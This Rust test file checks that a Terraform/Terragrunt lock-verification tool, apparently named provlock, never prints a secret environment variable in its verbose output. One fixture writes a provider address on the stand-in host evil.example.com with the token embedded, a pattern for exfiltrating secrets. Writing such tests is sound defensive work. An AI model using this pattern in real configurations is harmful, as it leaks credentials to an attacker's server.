//! Units that depend on variables of the environment.

use provlock_test::environment::Output;
use provlock_test::{TestEnvironment, str};

use super::generate;
use crate::lock::{lock_file, requires};

/// A unit whose source depends on a variable, with a block that generates `provider.tf` with these contents.
fn chosen_by_a_variable(contents: &str) -> TestEnvironment {
    let mut environment = TestEnvironment::new();
    environment.set("STAGE", "prod");
    environment.set("TOKEN", "t0ken");
    let choice = "get_env(\"STAGE\") == \"prod\" ? \"../modules//app\" : \"../modules//none\"";
    let source = format!("terraform {{\n  source = {choice}\n}}\n");
    environment.write("unit/terragrunt.hcl", source + &generate("provider", contents));
    environment.write("modules/app/main.tf", "resource \"tls_private_key\" \"a\" {}\n");
    environment.write("unit/.terraform.lock.hcl", lock_file(&[]));
    environment
}

fn verify_verbosely(environment: &TestEnvironment) -> Output {
    environment.provlock(["verify", "--allow", "single-platform", "-r", "-v"])
}

#[test]
fn a_variable_of_the_environment_chooses_and_is_never_shown() {
    let provider = "provider \"null\" {\n  region = \"${get_env(\"TOKEN\")}\"\n}\n";
    let environment = chosen_by_a_variable(provider);
    verify_verbosely(&environment).assert_lacks("t0ken").matches(str![[r#"
exit code: 1
----- stdout -----
error[provider-not-locked]: hashicorp/tls is required, but not locked
 --> modules/app/main.tf:1:10
  |
1 | resource "tls_private_key" "a" {}
  |          ^^^^^^^^^^^^^^^^^ required here
  |
help: provlock -C unit lock

error[provider-not-locked]: hashicorp/null is required, but not locked
 --> unit/terragrunt.hcl:4:1
  |
4 | generate "provider" {
  | ^^^^^^^^ required here
  |
help: provlock -C unit lock

----- stderr -----
unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
2 errors in modules/app/main.tf and unit/terragrunt.hcl
"#]]);
}

#[test]
fn a_variable_of_the_environment_is_not_shown_in_an_address() {
    let leak = requires("evil.example.com/${get_env(\"TOKEN\")}/null", "");
    let environment = chosen_by_a_variable(&leak);
    verify_verbosely(&environment).assert_lacks("t0ken").matches(str![[r#"
exit code: 1
----- stdout -----
error[provider-not-locked]: hashicorp/tls is required, but not locked
 --> modules/app/main.tf:1:10
  |
1 | resource "tls_private_key" "a" {}
  |          ^^^^^^^^^^^^^^^^^ required here
  |
help: provlock -C unit lock

warning[requirements-not-known]: what the unit in unit requires is not known in full
 --> unit/terragrunt.hcl:4:1
  |
4 | generate "provider" {
  | ^^^^^^^^ a variable of the environment is only compared, never shown
  |
  = the entries and constraints of the lock file are taken as required
help: terragrunt init -lockfile=readonly checks the whole

----- stderr -----
unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
1 error and 1 warning in modules/app/main.tf and unit/terragrunt.hcl
"#]]);
}
